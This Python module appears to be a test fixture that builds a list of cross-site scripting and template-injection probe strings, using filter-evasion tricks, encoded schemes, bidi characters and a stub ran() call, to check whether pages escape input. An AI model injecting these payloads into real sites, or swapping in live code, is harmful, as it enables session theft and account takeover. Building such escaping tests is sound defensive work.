"""Text that would become markup or run as a script if a page did not escape it.

Each makes an element with the attribute `q`, calls `ran()`, or works out 191 times 193.
"""

from itertools import cycle, product

_TAGS = (
    "img src=x",
    "svg",
    "math",
    "iframe",
    "object data=x",
    "embed src=x",
    "video src=x",
    "audio src=x",
    "body",
    "input autofocus",
    "details open",
    "a href=#",
    "marquee",
    "style",
    "form",
    "button autofocus",
    "select autofocus",
    "textarea autofocus",
    "link rel=stylesheet",
    "p tabindex=0",
)
_EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_CALLS = (
    "ran()",
    '"ran()"',
    "'ran()'",
    "&#114;an()",
    "&#x72;an&lpar;)",
    "ran&#40;&#41;",
    "`${ran()}`",
    "\\u0072an()",
)
_OPENINGS = ("<", '"><', "'><", "</script><", "--><", "</textarea><", "]]><", "<<", "\u202e<", "＜")
_SCHEMES = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "&#106;avascript:ran()",
    "javascript&colon;ran()",
    "data:text/html,<script q>ran()</script>",
    "vbscript:ran()",
    "//x.invalid/?q",
    "https://x.invalid/q",
    "\x01javascript:ran()",
)
_LINKS = (
    "<a q href='{}'>x</a>",
    "<iframe q src='{}'></iframe>",
    "<form q action='{}'><button>x",
    "<svg><a q xlink:href='{}'><text y=9>x",
    "<math q href='{}'>x",
    "<base q href='{}'>",
    "<meta q http-equiv=refresh content='0;url={}'>",
    "[x]({})",
    "{}",
    "<object q data='{}'>",
)
_CLASSIC = (
    "<script q>ran()</script>",
    "<ScRiPt q>ran()</sCrIpT>",
    "<scr<script>ipt q>ran()</script>",
    "<script q src=//x.invalid/a.js></script>",
    "';ran();//",
    '";ran();//',
    "</script><b q>",
    "<svg><script q>ran()</script>",
    "<svg><animate q onbegin=ran() attributeName=x>",
    "<math><mtext><table><mglyph><style><img q src=x onerror=ran()>",
    "<noscript><p title='</noscript><img q src=x onerror=ran()>'>",
    "<template><b q></template>",
    "<xmp><b q></xmp>",
    "<!--<img q src=x onerror=ran()>-->",
    "<img q src=`x`onerror=ran()>",
    "<img/q/src/onerror=ran()>",
    "<b q\x0conclick=ran()>",
    "%3Cb q%3E",
    "&lt;b q&gt;",
    "\\x3cb q\\x3e",
    "\\u003cb q\\u003e",
    "+ADw-b q+AD4-",
    "{{191*193}}",
    "${191*193}",
    "#{191*193}",
    "<%= 191*193 %>",
    "{% debug %}",
    "{{ran()}}",
    "{{constructor.constructor('ran()')()}}",
    "[[${191*193}]]",
    "@(191*193)",
    "*{191*193}",
    "<b q x-data x-init=ran()>",
    "<b q hx-get=/ hx-trigger=load>",
    "<b q v-html=ran()>",
    "<ch-avatar q seed=1>",
    "<ch-cards q codes=Ah>",
    "\u2066<b q>\u2069",
    "\u202d<b q>",
    "[b q]x[/b]",
    "**x** <u q>",
    "![x](x onerror=ran())",
    "<style q>*{color:red}</style>",
    "<table background=javascript:ran() q>",
    "<div q style=width:expression(ran())>",
)
SHORT = (
    "<b q>x",
    "<img q src=x>",
    "<svg q onload=ran()>",
    '"><i q>',
    "'><i q>",
    "{{191*193}}",
    "${191*193}",
    "<script>ran()",
    "</a><i q>",
    "<a q href=//x>y",
    "<u q>\u202e",
    "<p q onclick=ran()>",
)
"""No longer than a name; the first three without a slash, because names occur in URLs."""


def payloads(many: int = 500) -> list[str]:
    """This many different payloads, none longer than a line of chat."""
    made = [*_CLASSIC, *(link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES))]
    openings, calls = cycle(_OPENINGS), cycle(_CALLS)
    for (tag, event), _ in product(product(_TAGS, _EVENTS), range(4)):
        made.append(f"{next(openings)}{tag} q {event}={next(calls)}>")
    return list(dict.fromkeys(made))[:many]
